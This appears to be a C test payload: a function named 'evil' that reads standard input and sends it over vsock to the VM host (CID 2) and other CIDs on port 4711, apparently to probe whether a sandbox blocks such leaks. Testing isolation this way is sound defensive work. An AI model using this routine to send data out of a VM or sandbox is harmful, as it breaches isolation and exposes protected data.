/* Sends standard input over vsock. */
#include <linux/vm_sockets.h>
#include <string.h>
#include <sys/socket.h>

static void evil(const char *path)
{
	static const unsigned who[] = { 2 /* the host */, 1 /* this machine */, 0 };
	char text[4096];
	int pair[2];
	ssize_t length = read(0, text, sizeof text);
	(void)path;
	if (length < 0 || pipe(pair) != 0 || write(pair[1], text, (size_t)length) != length)
		exit(1);
	close(pair[1]);
	dup2(pair[0], 0);
	for (size_t i = 0; i < sizeof who / sizeof *who; i++) {
		struct sockaddr_vm a = { .svm_family = AF_VSOCK, .svm_cid = who[i], .svm_port = 4711 };
		int s = socket(AF_VSOCK, SOCK_STREAM, 0);
		if (s >= 0 && connect(s, (struct sockaddr *)&a, sizeof a) == 0 && write(s, text, (size_t)length) == length)
			fprintf(stderr, "sent to %u\n", who[i]);
		if (s >= 0)
			close(s);
	}
}
